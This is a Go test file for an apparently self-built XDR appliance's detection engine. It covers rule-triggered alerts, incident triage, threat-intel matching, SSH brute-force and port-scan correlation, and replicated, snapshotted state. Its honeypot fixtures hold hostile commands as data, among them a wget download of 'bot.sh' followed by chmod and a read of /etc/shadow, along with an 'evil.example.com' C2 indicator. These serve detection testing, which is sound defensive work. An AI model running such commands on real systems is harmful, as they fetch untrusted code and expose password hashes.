package storage_test

import (
	"context"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/hashicorp/raft"

	"github.com/minixdr/xdr/appliance"
	"github.com/minixdr/xdr/appliance/command"
	"github.com/minixdr/xdr/appliance/detect"
	"github.com/minixdr/xdr/appliance/intel"
	"github.com/minixdr/xdr/appliance/query"
	"github.com/minixdr/xdr/storage"
	"github.com/minixdr/xdr/storage/storetest"
)

var detectT0 = time.Date(2026, 11, 22, 3, 55, 0, 0, time.UTC)

// cowrieCommand is a honeypot command event from ip at t.
func cowrieCommand(tenant, ip, input string, t time.Time, n uint64) appliance.Event {
	return storetest.Event(tenant, "cowrie", t, n, map[string]any{
		"event.action": "command-input", "event.dataset": "cowrie", "source.ip": ip,
		"process.command_line": input, "host.name": "hp-1", "user.name": "root",
	})
}

func newDetectLog(t *testing.T, tenants ...string) (*storage.Store, *storetest.Log) {
	t.Helper()
	s := storetest.MustOpenStore(t)
	l := &storetest.Log{TB: t, Store: s}
	for _, tn := range tenants {
		l.MustApply(&command.CreateTenant{Tenant: appliance.Tenant{Name: tn, Created: detectT0}})
	}
	return s, l
}

func alerts(t *testing.T, s *storage.Store, tenant, q string) []detect.Alert {
	t.Helper()
	req := detect.AlertQuery{Tenant: tenant, Limit: 1000}
	if q != "" {
		expr, err := query.Parse(q)
		if err != nil {
			t.Fatal(err)
		}
		req.Expr = expr
	}
	page, err := s.SQL.Alerts(context.Background(), req)
	if err != nil {
		t.Fatal(err)
	}
	return page.Alerts
}

func TestDetectionBuiltinRuleRaisesAlertAndIncident(t *testing.T) {
	s, l := newDetectLog(t, "acme", "other")
	batch := &command.IngestBatch{Tenant: "acme", Source: "cowrie", BatchID: "b1", Events: []appliance.Event{
		cowrieCommand("acme", "10.200.0.2", "uname -a; wget http://10.200.0.10/bot.sh; chmod +x bot.sh", detectT0, 1),
		cowrieCommand("acme", "10.200.0.2", "id", detectT0.Add(time.Second), 2),
		cowrieCommand("acme", "10.200.0.2", "cat /etc/shadow", detectT0.Add(2*time.Second), 3),
	}}
	l.MustApply(batch)
	got := alerts(t, s, "acme", "")
	if len(got) != 2 {
		t.Fatalf("%d alerts, want 2 (the wget and the shadow read): %+v", len(got), got)
	}
	a := got[1] // oldest last
	if a.RuleID != "6f1c2b7e-3a41-4d0c-9b1e-5a2f0c7d1e14" || a.Severity != "high" || a.Tenant != "acme" ||
		strings.Join(a.Attack, ",") != "T1059.004,T1105" || a.EventIDs[0] != batch.Events[0].ID.String() || !a.Timestamp.Equal(detectT0) {
		t.Errorf("alert %+v", a)
	}
	if got[0].Incident == "" || got[0].Incident != got[1].Incident {
		t.Fatalf("alerts not in one incident: %q %q", got[0].Incident, got[1].Incident)
	}
	inc, err := s.SQL.Incident(context.Background(), "acme", a.Incident)
	if err != nil {
		t.Fatal(err)
	}
	if inc.AlertCount != 2 || inc.Status != detect.StatusNew || inc.Severity != "high" || inc.Key != (detect.Entity{Type: "ip", Value: "10.200.0.2"}) ||
		len(inc.Entities) != 3 || !strings.Contains(inc.Title, "from 10.200.0.2") {
		t.Errorf("incident %+v", inc)
	}
	if n := len(alerts(t, s, "acme", "entities.value:10.200.0.2 AND severity:high")); n != 2 {
		t.Errorf("query on entities and severity: %d alerts", n)
	}
	if n := len(alerts(t, s, "acme", "severity:low")); n != 0 {
		t.Errorf("query severity:low: %d alerts", n)
	}
	// The other tenant sees none of it.
	if n := len(alerts(t, s, "other", "")); n != 0 {
		t.Errorf("tenant other sees %d alerts", n)
	}
	if _, err := s.SQL.Incident(context.Background(), "other", a.Incident); appliance.ErrorCode(err) != appliance.ENOTFOUND {
		t.Errorf("tenant other reads the incident: %v", err)
	}

	// The same events again (a client resending without an idempotency
	// key): same event IDs, so no new alert.
	l.MustApply(batch)
	if n := len(alerts(t, s, "acme", "")); n != 2 {
		t.Errorf("%d alerts after the batch was applied again", n)
	}
	// Replaying the entry at its own index (a restart) changes nothing.
	if res := s.Apply(&raft.Log{Index: l.Index, Term: 1, Type: raft.LogCommand, Data: storetest.Encode(t, batch)}); res != nil {
		t.Fatal(res)
	}
	if n := len(alerts(t, s, "acme", "")); n != 2 {
		t.Errorf("%d alerts after a replay", n)
	}
}

func TestDetectionIncidentLifecycle(t *testing.T) {
	s, l := newDetectLog(t, "acme")
	ev := func(n uint64, at time.Time) *command.IngestBatch {
		return &command.IngestBatch{Tenant: "acme", Source: "cowrie", BatchID: "b", Events: []appliance.Event{
			cowrieCommand("acme", "10.200.0.3", "wget http://x.example/a", at, n)}}
	}
	l.MustApply(ev(1, detectT0))
	first := alerts(t, s, "acme", "")[0].Incident
	// Within the window: same incident.
	l.MustApply(ev(2, detectT0.Add(30*time.Minute)))
	// Triage: resolved incidents take no more alerts.
	status, who := detect.StatusResolved, "alice"
	l.MustApply(&command.UpdateIncident{Tenant: "acme", ID: first, Status: &status, Assignee: &who, Comment: "reimaged", Author: "alice", Time: detectT0.Add(time.Hour).UnixNano()})
	l.MustApply(ev(3, detectT0.Add(40*time.Minute)))
	// Far later: a new incident too.
	got := alerts(t, s, "acme", "")
	if len(got) != 3 || got[1].Incident != first || got[2].Incident != first || got[0].Incident == first {
		t.Fatalf("incidents of alerts: %q %q %q (first %q)", got[0].Incident, got[1].Incident, got[2].Incident, first)
	}
	inc, err := s.SQL.Incident(context.Background(), "acme", first)
	if err != nil {
		t.Fatal(err)
	}
	if inc.Status != "resolved" || inc.Assignee != "alice" || inc.AlertCount != 2 || len(inc.Comments) != 1 || inc.Comments[0].Text != "reimaged" ||
		!inc.Updated.Equal(detectT0.Add(time.Hour)) {
		t.Errorf("incident after triage: %+v", inc)
	}
	bad := "closed"
	if err := l.Apply(&command.UpdateIncident{Tenant: "acme", ID: first, Status: &bad}); appliance.ErrorCode(err) != appliance.EINVALID {
		t.Errorf("bad status: %v", err)
	}
	if err := l.Apply(&command.UpdateIncident{Tenant: "other", ID: first, Comment: "x"}); appliance.ErrorCode(err) != appliance.ENOTFOUND {
		t.Errorf("another tenant's incident: %v", err)
	}
	page, err := s.SQL.Incidents(context.Background(), "acme", "resolved", 10, "")
	if err != nil || len(page.Incidents) != 1 || page.Incidents[0].ID != first {
		t.Errorf("resolved incidents: %+v %v", page, err)
	}
	page, err = s.SQL.Incidents(context.Background(), "acme", "", 1, "")
	if err != nil || len(page.Incidents) != 1 || page.Next == "" {
		t.Fatalf("first page: %+v %v", page, err)
	}
	page2, err := s.SQL.Incidents(context.Background(), "acme", "", 1, page.Next)
	if err != nil || len(page2.Incidents) != 1 || page2.Incidents[0].ID == page.Incidents[0].ID {
		t.Errorf("second page: %+v %v", page2, err)
	}
}

const customRule = `title: Root user on the honeypot
id: 11111111-2222-4333-8444-555555555555
status: test
level: critical
logsource:
  product: cowrie
detection:
  selection:
    user.name: root
  condition: selection
tags:
  - attack.t1078.003
`

func TestDetectionRulesAreReplicatedState(t *testing.T) {
	s, l := newDetectLog(t, "acme")
	l.MustApply(&command.PutRules{Tenant: "acme", Time: detectT0.UnixNano(), Rules: []command.RuleDef{
		{ID: "11111111-2222-4333-8444-555555555555", Source: []byte(customRule), Enabled: true}}})
	l.MustApply(&command.IngestBatch{Tenant: "acme", Source: "cowrie", BatchID: "b", Events: []appliance.Event{
		cowrieCommand("acme", "10.0.0.9", "ls", detectT0, 1)}})
	got := alerts(t, s, "acme", "rule_id:11111111-2222-4333-8444-555555555555")
	if len(got) != 1 || got[0].Severity != "critical" || got[0].Attack[0] != "T1078.003" {
		t.Fatalf("custom rule alerts: %+v", got)
	}
	// Disabled: no more alerts; the listing shows it.
	l.MustApply(&command.SetRuleEnabled{Tenant: "acme", ID: "11111111-2222-4333-8444-555555555555", Enabled: false, Time: detectT0.UnixNano()})
	l.MustApply(&command.IngestBatch{Tenant: "acme", Source: "cowrie", BatchID: "b2", Events: []appliance.Event{
		cowrieCommand("acme", "10.0.0.9", "ls", detectT0.Add(time.Second), 2)}})
	if got := alerts(t, s, "acme", ""); len(got) != 1 {
		t.Fatalf("%d alerts after disabling the rule", len(got))
	}
	off := false
	rules, err := s.Rules(context.Background(), "acme", detect.RuleFilter{Enabled: &off})
	if err != nil || len(rules) != 1 || rules[0].Level != "critical" || rules[0].Builtin {
		t.Fatalf("disabled rules: %+v %v", rules, err)
	}
	// A built-in rule can be disabled, not deleted, and not shadowed.
	builtinID := "6f1c2b7e-3a41-4d0c-9b1e-5a2f0c7d1e14"
	l.MustApply(&command.SetRuleEnabled{Tenant: "acme", ID: builtinID, Enabled: false, Time: detectT0.UnixNano()})
	l.MustApply(&command.IngestBatch{Tenant: "acme", Source: "cowrie", BatchID: "b3", Events: []appliance.Event{
		cowrieCommand("acme", "10.0.0.9", "wget http://x/y", detectT0.Add(2*time.Second), 3)}})
	if got := alerts(t, s, "acme", ""); len(got) != 1 {
		t.Fatalf("%d alerts after disabling the built-in rule", len(got))
	}
	if err := l.Apply(&command.DeleteRule{Tenant: "acme", ID: builtinID}); appliance.ErrorCode(err) != appliance.ENOTFOUND {
		t.Errorf("delete built-in: %v", err)
	}
	shadow := strings.Replace(customRule, "11111111-2222-4333-8444-555555555555", builtinID, 1)
	if err := l.Apply(&command.PutRules{Tenant: "acme", Rules: []command.RuleDef{{ID: builtinID, Source: []byte(shadow)}}}); appliance.ErrorCode(err) != appliance.ECONFLICT {
		t.Errorf("shadowing a built-in rule: %v", err)
	}
	if err := l.Apply(&command.PutRules{Tenant: "acme", Rules: []command.RuleDef{{ID: "x", Source: []byte("title: [")}}}); appliance.ErrorCode(err) != appliance.EINVALID {
		t.Errorf("bad YAML: %v", err)
	}
	l.MustApply(&command.DeleteRule{Tenant: "acme", ID: "11111111-2222-4333-8444-555555555555"})
	if _, err := s.Rule(context.Background(), "acme", "11111111-2222-4333-8444-555555555555"); appliance.ErrorCode(err) != appliance.ENOTFOUND {
		t.Errorf("deleted rule still there: %v", err)
	}
	r, err := s.Rule(context.Background(), "acme", builtinID)
	if err != nil || r.Enabled || !r.Builtin || !strings.Contains(r.Source, "wget") {
		t.Errorf("built-in rule: %+v %v", r, err)
	}
}

func TestDetectionThreatIntel(t *testing.T) {
	s, l := newDetectLog(t, "acme")
	rep, err := intel.Import([]byte("value,description,valid_until\n203.0.113.7,scanner,2027-01-01T00:00:00Z\nevil.example.com,c2,\n"), intel.Options{Format: "csv", Source: "feed"})
	if err != nil {
		t.Fatal(err)
	}
	l.MustApply(&command.PutIndicators{Tenant: "acme", Source: "feed", Indicators: rep.Indicators})
	l.MustApply(&command.IngestBatch{Tenant: "acme", Source: "json", BatchID: "b", Events: []appliance.Event{
		storetest.Event("acme", "json", detectT0, 1, map[string]any{"source.ip": "203.0.113.7", "destination.ip": "10.0.0.1"}),
		storetest.Event("acme", "json", detectT0, 2, map[string]any{"dns.question.name": "a.b.evil.example.com"}),
		storetest.Event("acme", "json", time.Date(2027, 2, 1, 0, 0, 0, 0, time.UTC), 3, map[string]any{"source.ip": "203.0.113.7"}),
		storetest.Event("acme", "json", detectT0, 4, map[string]any{"source.ip": "203.0.113.8"}),
	}})
	got := alerts(t, s, "acme", "rule_id:threat-intel")
	if len(got) != 2 {
		t.Fatalf("%d intel alerts, want 2 (the expired indicator does not match later events): %+v", len(got), got)
	}
	for _, a := range got {
		if a.Intel == nil || a.Intel.Source != "feed" || a.Severity != "high" {
			t.Fatalf("alert lacks the indicator's context: %+v", a)
		}
	}
	summary, err := s.SQL.IntelSummary(context.Background(), "acme")
	if err != nil || len(summary) != 2 {
		t.Fatalf("summary %+v %v", summary, err)
	}
	l.MustApply(&command.DeleteIntel{Tenant: "acme", Source: "feed"})
	l.MustApply(&command.IngestBatch{Tenant: "acme", Source: "json", BatchID: "b2", Events: []appliance.Event{
		storetest.Event("acme", "json", detectT0, 5, map[string]any{"source.ip": "203.0.113.7"})}})
	if n := len(alerts(t, s, "acme", "rule_id:threat-intel")); n != 2 {
		t.Errorf("%d intel alerts after the feed was deleted", n)
	}
}

// Two nodes applying the same log derive the same alerts and incidents,
// byte for byte; a snapshot carries them (and the rules) to a third.
func TestDetectionIsDeterministicAndSnapshotted(t *testing.T) {
	var logs [2]*storetest.Log
	var stores [2]*storage.Store
	for i := range logs {
		stores[i], logs[i] = newDetectLog(t, "acme")
	}
	cmds := []command.Command{
		&command.PutRules{Tenant: "acme", Time: detectT0.UnixNano(), Rules: []command.RuleDef{
			{ID: "11111111-2222-4333-8444-555555555555", Source: []byte(customRule), Enabled: true}}},
	}
	for i := range 20 {
		cmds = append(cmds, &command.IngestBatch{Tenant: "acme", Source: "cowrie", BatchID: "b", Events: []appliance.Event{
			cowrieCommand("acme", "10.0.0."+string(rune('1'+i%5)), "wget http://x/"+string(rune('a'+i)), detectT0.Add(time.Duration(i)*time.Minute), uint64(i)),
		}})
	}
	for _, c := range cmds {
		for i := range logs {
			logs[i].MustApply(c)
		}
	}
	d0, _ := storetest.MustDigest(t, stores[0])
	d1, _ := storetest.MustDigest(t, stores[1])
	if d0 != d1 {
		t.Fatal("two stores applying one log differ")
	}
	n := len(alerts(t, stores[0], "acme", ""))
	if n != 40 {
		t.Fatalf("%d alerts, want 40", n)
	}
	var buf strings.Builder
	if _, err := stores[0].WriteSnapshot(context.Background(), &buf); err != nil {
		t.Fatal(err)
	}
	third := storetest.MustOpenStore(t)
	if _, err := third.RestoreFrom(strings.NewReader(buf.String())); err != nil {
		t.Fatal(err)
	}
	if d, _ := storetest.MustDigest(t, third); d != d0 {
		t.Fatal("restored store differs")
	}
	// The restored node detects with the restored rules.
	l3 := &storetest.Log{TB: t, Store: third, Index: logs[0].Index}
	l3.MustApply(&command.IngestBatch{Tenant: "acme", Source: "cowrie", BatchID: "late", Events: []appliance.Event{
		cowrieCommand("acme", "10.0.0.1", "ls", detectT0.Add(time.Hour), 99)}})
	if got := alerts(t, third, "acme", "rule_id:11111111-2222-4333-8444-555555555555"); len(got) != 21 {
		t.Errorf("restored node: %d custom-rule alerts, want 21", len(got))
	}
}

func sshEvent(tenant, ip, user, outcome string, t time.Time, n uint64) appliance.Event {
	return storetest.Event(tenant, "auth", t, n, map[string]any{
		"event.action": "ssh-login", "event.outcome": outcome, "source.ip": ip, "user.name": user, "host.name": "srv",
	})
}

// Correlation rules fire on event time, and their state is replicated:
// it survives a restart between the failures and the success.
func TestDetectionCorrelationsSurviveRestart(t *testing.T) {
	dir := t.TempDir()
	s := storetest.MustOpenStoreAt(t, dir)
	l := &storetest.Log{TB: t, Store: s}
	l.MustApply(&command.CreateTenant{Tenant: appliance.Tenant{Name: "acme", Created: detectT0}})
	var evs []appliance.Event
	for i := range 3 {
		evs = append(evs, sshEvent("acme", "192.0.2.9", "alice", "failure", detectT0.Add(time.Duration(i)*time.Second), uint64(i)))
	}
	l.MustApply(&command.IngestBatch{Tenant: "acme", Source: "auth", BatchID: "f", Events: evs})
	s.Close()
	s = storetest.MustOpenStoreAt(t, dir)
	l.Store = s
	l.MustApply(&command.IngestBatch{Tenant: "acme", Source: "auth", BatchID: "s", Events: []appliance.Event{
		sshEvent("acme", "192.0.2.9", "alice", "success", detectT0.Add(time.Minute), 10)}})
	got := alerts(t, s, "acme", `rule_title:"SSH login succeeded after failures"`)
	if len(got) != 1 || len(got[0].EventIDs) != 4 || got[0].GroupKey != "source.ip=192.0.2.9" {
		t.Fatalf("success-after-failures alerts: %+v", got)
	}
}

func TestDetectionPortScan(t *testing.T) {
	s, l := newDetectLog(t, "acme")
	var evs []appliance.Event
	for port := range 25 {
		evs = append(evs, storetest.Event("acme", "zeek", detectT0.Add(time.Duration(port)*time.Second), uint64(port), map[string]any{
			"event.dataset": "zeek.conn", "source.ip": "198.51.100.4", "destination.ip": "10.0.0.5", "destination.port": float64(1000 + port),
		}))
	}
	// Many connections to one port are not a scan.
	for i := range 25 {
		evs = append(evs, storetest.Event("acme", "zeek", detectT0.Add(time.Duration(i)*time.Second), uint64(100+i), map[string]any{
			"event.dataset": "zeek.conn", "source.ip": "198.51.100.5", "destination.ip": "10.0.0.5", "destination.port": float64(443),
		}))
	}
	l.MustApply(&command.IngestBatch{Tenant: "acme", Source: "zeek", BatchID: "z", Events: evs})
	got := alerts(t, s, "acme", "")
	if len(got) != 1 || got[0].RuleTitle != "Port scan" || got[0].Attack[0] != "T1046" || got[0].Entities[0].Value != "198.51.100.4" {
		t.Fatalf("alerts %+v", got)
	}
}

// A retried idempotent batch (same Idempotency-Key and body) stores its
// events once and feeds the correlator once.
func TestDetectionIdempotentRetryIsNotDetectedTwice(t *testing.T) {
	s, l := newDetectLog(t, "acme")
	var evs []appliance.Event
	for i := range 6 {
		evs = append(evs, sshEvent("acme", "192.0.2.77", "root", "failure", detectT0.Add(time.Duration(i)*time.Second), uint64(i)))
	}
	first := &command.IngestBatch{Tenant: "acme", Source: "auth", BatchID: "key-1", Idempotent: true, Digest: 42, Events: evs}
	l.MustApply(first)
	l.MustApply(first) // the client's retry, committed again
	if got := alerts(t, s, "acme", ""); len(got) != 0 {
		t.Fatalf("the retry counted twice: %d alerts (%s)", len(got), got[0].RuleTitle)
	}
	var more []appliance.Event
	for i := range 4 {
		more = append(more, sshEvent("acme", "192.0.2.77", "root", "failure", detectT0.Add(time.Duration(10+i)*time.Second), uint64(10+i)))
	}
	l.MustApply(&command.IngestBatch{Tenant: "acme", Source: "auth", BatchID: "key-2", Idempotent: true, Digest: 43, Events: more})
	got := alerts(t, s, "acme", "")
	if len(got) != 1 || got[0].RuleTitle != "SSH brute force" || len(got[0].EventIDs) != 10 {
		t.Fatalf("after ten distinct failures: %+v", got)
	}
}

// The correlator's state is saved every few dozen batches and rebuilt from
// the saved state plus the logged events (appliance/detect/correlate.go): a
// node restarted anywhere in the stream, across checkpoints and a rule
// change, ends with exactly the state of a node that never stopped.
func TestDetectionCorrelationCheckpointsAndReplay(t *testing.T) {
	dirs := [2]string{t.TempDir(), t.TempDir()}
	var logs [2]*storetest.Log
	for i := range logs {
		logs[i] = &storetest.Log{TB: t, Store: storetest.MustOpenStoreAt(t, dirs[i])}
	}
	apply := func(c command.Command) {
		for _, l := range logs {
			l.MustApply(c)
		}
	}
	restartB := func() {
		logs[1].Store.Close()
		logs[1].Store = storetest.MustOpenStoreAt(t, dirs[1])
	}
	apply(&command.CreateTenant{Tenant: appliance.Tenant{Name: "acme", Created: detectT0}})
	for i := range 150 {
		ip := "192.0.2." + strconv.Itoa(i%60)
		apply(&command.IngestBatch{Tenant: "acme", Source: "auth", BatchID: "b", Events: []appliance.Event{
			sshEvent("acme", ip, "root", "failure", detectT0.Add(time.Duration(i)*time.Second), uint64(i))}})
		switch i {
		case 30, 100, 149:
			restartB()
		case 70:
			apply(&command.PutRules{Tenant: "acme", Time: detectT0.UnixNano(), Rules: []command.RuleDef{
				{ID: "11111111-2222-4333-8444-555555555555", Source: []byte(customRule), Enabled: true}}})
		}
	}
	// 192.0.2.5 failed at seconds 5, 65 and 125; now it logs in.
	apply(&command.IngestBatch{Tenant: "acme", Source: "auth", BatchID: "s", Events: []appliance.Event{
		sshEvent("acme", "192.0.2.5", "root", "success", detectT0.Add(150*time.Second), 1000)}})
	// Enough batches, spread over hours so old observations leave the
	// windows, for the log to outgrow the state and trigger another
	// checkpoint, which saves the state each node holds in memory: the
	// digests compare it.
	for i := 151; i < 400; i++ {
		var evs []appliance.Event
		for k := range 5 {
			evs = append(evs, sshEvent("acme", "198.51.100."+strconv.Itoa((5*i+k)%30), "admin", "failure",
				detectT0.Add(150*time.Second+time.Duration(i-150)*time.Minute+time.Duration(k)*time.Second), uint64(10*i+k)))
		}
		apply(&command.IngestBatch{Tenant: "acme", Source: "auth", BatchID: "c", Events: evs})
	}
	dA, _ := storetest.MustDigest(t, logs[0].Store)
	dB, _ := storetest.MustDigest(t, logs[1].Store)
	if dA != dB {
		t.Fatal("the restarted store differs from the one that never stopped")
	}
	got := alerts(t, logs[1].Store, "acme", `rule_title:"SSH login succeeded after failures"`)
	if len(got) != 1 || len(got[0].EventIDs) != 4 {
		t.Fatalf("success after failures: %+v", got)
	}
}

// A batch of a source no rule reads, with no intel loaded, is not read at
// all; once an indicator exists, it is.
func TestDetectionSkipsSourcesNoRuleReads(t *testing.T) {
	s, l := newDetectLog(t, "acme")
	ev := func(n uint64) *command.IngestBatch {
		return &command.IngestBatch{Tenant: "acme", Source: "osquery", BatchID: "o", Events: []appliance.Event{
			storetest.Event("acme", "osquery", detectT0, n, map[string]any{"source.ip": "203.0.113.99"})}}
	}
	l.MustApply(ev(1))
	rep, err := intel.Import([]byte("203.0.113.99\n"), intel.Options{Format: "list", Source: "x"})
	if err != nil {
		t.Fatal(err)
	}
	l.MustApply(&command.PutIndicators{Tenant: "acme", Source: "x", Indicators: rep.Indicators})
	l.MustApply(ev(2))
	if got := alerts(t, s, "acme", ""); len(got) != 1 || got[0].RuleID != "threat-intel" {
		t.Fatalf("alerts %+v", got)
	}
}
